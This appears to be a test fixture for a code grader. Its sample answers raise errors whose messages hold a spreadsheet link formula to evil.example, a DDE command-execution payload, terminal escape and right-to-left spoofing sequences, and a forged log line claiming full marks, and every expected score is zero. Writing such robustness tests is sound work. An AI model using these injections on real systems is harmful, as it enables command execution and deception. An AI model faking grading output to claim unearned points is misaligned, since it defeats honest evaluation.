"""Messages that a spreadsheet would run, a terminal obey, and a log take for lines. Against tables and reports."""

ANSWERS = {
    "q1": """
def boltzmann(energy, beta):
    raise ValueError('=HYPERLINK("http://evil.example","open")')
""",
    "q3": """
def fit(well, samples, steps, rate):
    raise AssertionError("@SUM(1+9)*cmd|' /C calc'!A0\\n\\r\\x1b]0;owned\\x07\\x1b[2J\\u202etxt.exe\\0")

def lowest(energy, grid):
    raise KeyError("+1\\tgraded\\t12 of 12 points\\n- c-honest  graded  0")
""",
}
DESERVED = {"q1_a": 0, "q1_b": 0, "q1_c": 0, "q3_a": 0, "q3_b": 0}
